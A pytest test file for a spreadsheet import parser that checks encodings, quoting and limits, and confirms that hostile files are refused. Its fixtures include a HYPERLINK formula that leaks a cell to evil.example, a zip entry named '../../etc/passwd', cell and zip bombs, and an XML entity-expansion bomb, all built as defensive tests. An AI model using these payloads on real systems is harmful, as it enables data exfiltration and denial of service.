"""Files of strangers: read as text, or refused in a sentence; never a failure, never much time or memory."""

import io
import resource
import time
import zipfile
from collections.abc import Callable
from datetime import date
from typing import Any

import pytest
from xlsxwriter import Workbook

from erec.partners import policy, sheets
from erec.partners.errors import Unreadable
from erec.partners.sheet_child import as_text


def book(fill: Callable[[Any], object]) -> bytes:
    """An .xlsx whose first sheet was filled so."""
    file = io.BytesIO()
    workbook = Workbook(file)
    fill(workbook.add_worksheet())
    workbook.close()
    return file.getvalue()


def with_more(content: bytes, *, before: bytes = b"", cells: bytes = b"", times: int = 1) -> bytes:
    """The same .xlsx with `before` in front of its first sheet's root, and a row of so many `cells`."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            first, found, last = old.read(name).partition(b"</sheetData>")
            with new.open(name, "w") as part:
                part.write(first.replace(b"<worksheet", before + b"<worksheet", 1) if found else first)
                for _ in range(times if found else 0):
                    part.write(b"<row>" + cells + b"</row>")
                part.write(found + last)
    return made.getvalue()


def sentence_for(content: bytes) -> str:
    """And it came within its time."""
    started = time.monotonic()
    with pytest.raises(Unreadable) as refusal:
        sheets.read(content)
    assert time.monotonic() - started < sheets.SECONDS_MAX + 5
    return refusal.value.sentence


def answer_to(content: bytes) -> str:
    try:
        return str(sheets.read(content))
    except Unreadable as refusal:
        return refusal.sentence


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp932"])
@pytest.mark.parametrize("ending", ["\r\n", "\n", "\r"])
def test_a_csv_of_every_usual_encoding_is_read(encoding: str, ending: str) -> None:
    text = ending.join(['利用者番号,登録名,"メモ, と"', ' A1 ,"㈱髙﨑, 二行"', ""])
    assert sheets.read(text.encode(encoding)) == [
        ["利用者番号", "登録名", "メモ, と"],
        ["A1", "㈱髙﨑, 二行"],
    ]


def test_an_excel_file_is_read_as_a_person_reads_it() -> None:
    def fill(sheet: Any) -> None:
        sheet.write_row(0, 0, ["見出し", "", "数"])
        sheet.write_string(1, 0, "0001")
        sheet.write_number(1, 2, 1.0)
        sheet.write_number(2, 2, 1.5)
        sheet.write_blank(9, 0, None)

    assert sheets.read(book(fill)) == [["見出し", "", "数"], ["0001", "", "1"], ["", "", "1.5"]]


def test_a_formula_is_not_run_but_counts_for_what_it_showed() -> None:
    def fill(sheet: Any) -> None:
        sheet.write_formula(0, 0, '=HYPERLINK("https://evil.example/?"&A2,"押す")', None, "押す")
        sheet.write_formula(1, 0, "=1+1", None, 2)

    assert sheets.read(book(fill)) == [["押す"], ["2"]]


def test_what_our_own_files_defused_comes_back_as_it_was() -> None:
    assert sheets.read("'=1+1,'＋81,'そのまま".encode()) == [["=1+1", "＋81", "'そのまま"]]


def test_nul_and_other_encodings_are_no_csv() -> None:
    assert sentence_for(b"a,b\x00c") == sheets.NOT_TEXT
    assert sentence_for("a,b\x00".encode("utf-16")) == sheets.NOT_TEXT
    assert sentence_for("利用者番号".encode("utf-16") + b"x") == sheets.NOT_TEXT
    assert sentence_for("利用者番号".encode("euc_jp") + b"\xfd\xff") == sheets.NOT_TEXT


def test_an_open_quotation_mark_is_told_with_its_line() -> None:
    assert sentence_for(b'a,b\nc,"d\n') == 'CSVの2行目を読み取れません。引用符（"）の対応を確かめてください。'


def test_more_lines_columns_and_bytes_than_allowed_are_refused() -> None:
    at_most = b"a\n" * (policy.IMPORT_LINES_MAX + 1)
    assert len(sheets.read(at_most)) == policy.IMPORT_LINES_MAX + 1
    assert sentence_for(at_most + b"a\n") == sheets.TOO_MANY_LINES
    assert sentence_for(b"," * policy.IMPORT_COLUMNS_MAX) == sheets.TOO_MANY_COLUMNS
    assert sentence_for(b"a" * (policy.IMPORT_BYTES_MAX + 1)) == sheets.TOO_BIG
    wide = book(lambda sheet: sheet.write_string(0, policy.IMPORT_COLUMNS_MAX, "a"))
    assert sentence_for(wide) == sheets.TOO_MANY_COLUMNS
    long = book(lambda sheet: sheet.write_column(0, 0, ["a"] * (policy.IMPORT_LINES_MAX + 2)))
    assert sentence_for(long) == sheets.TOO_MANY_LINES


@pytest.mark.parametrize("cut", [4, 30, 1000, -1])
def test_a_broken_excel_file_is_refused(cut: int) -> None:
    assert sentence_for(book(lambda sheet: sheet.write(0, 0, "a"))[:cut]) == sheets.BROKEN_EXCEL


def test_a_zip_that_is_no_excel_file_and_an_old_one_are_refused() -> None:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("../../etc/passwd", "x")
    assert sentence_for(file.getvalue()) == sheets.BROKEN_EXCEL
    assert sentence_for(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1000) == sheets.OLD_EXCEL


def test_one_cell_in_the_last_corner_does_not_take_the_memory_of_all() -> None:
    """17 billion cells for a parser that lays out the whole sheet: it would abort the process it is in."""
    far = book(lambda sheet: (sheet.write(0, 0, "a"), sheet.write(1_048_575, 16_383, "b")))
    assert sentence_for(far) == sheets.BROKEN_EXCEL


def test_a_small_file_that_unfolds_to_millions_of_cells_is_refused() -> None:
    plain = book(lambda sheet: sheet.write(0, 0, "a"))
    bomb = with_more(plain, cells=b'<c t="n"><v>1</v></c>' * 10_000, times=400)
    assert len(bomb) < policy.IMPORT_BYTES_MAX
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    assert sentence_for(bomb) == sheets.BROKEN_EXCEL
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50_000  # kilobytes


def test_one_long_text_in_every_cell_is_refused() -> None:
    def fill(sheet: Any) -> None:
        for line in range(200):
            sheet.write_row(line, 0, ["長" * 30_000] * 20)

    content = book(fill)
    assert len(content) < policy.IMPORT_BYTES_MAX
    assert sentence_for(content) == sheets.BROKEN_EXCEL


def test_an_entity_bomb_inside_the_sheet_is_no_failure() -> None:
    entities = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + b"".join(
        b'<!ENTITY %c "&%c;&%c;&%c;&%c;">' % (n + 1, n, n, n, n) for n in range(97, 117)
    )
    plain = book(lambda sheet: sheet.write(0, 0, "a"))
    bomb = with_more(plain, before=entities + b"]>", cells=b'<c t="str"><v>&u;</v></c>')
    assert len(answer_to(bomb)) < 1000


def test_numbers_and_days_are_text_without_what_a_machine_adds() -> None:
    assert [as_text(cell) for cell in (1.0, 1.25, True, date(2026, 11, 20), "a", "")] == [
        "1",
        "1.25",
        "True",
        "2026-11-20",
        "a",
        "",
    ]
